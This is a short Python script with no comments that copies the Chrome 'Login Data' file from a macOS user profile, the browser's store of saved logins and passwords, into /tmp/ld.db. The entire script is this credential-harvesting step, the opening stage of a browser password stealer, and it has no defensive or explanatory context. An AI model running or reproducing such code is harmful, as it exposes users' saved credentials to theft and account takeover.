#!/usr/bin/env python3
import os, shutil
src = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
shutil.copy(src, "/tmp/ld.db")
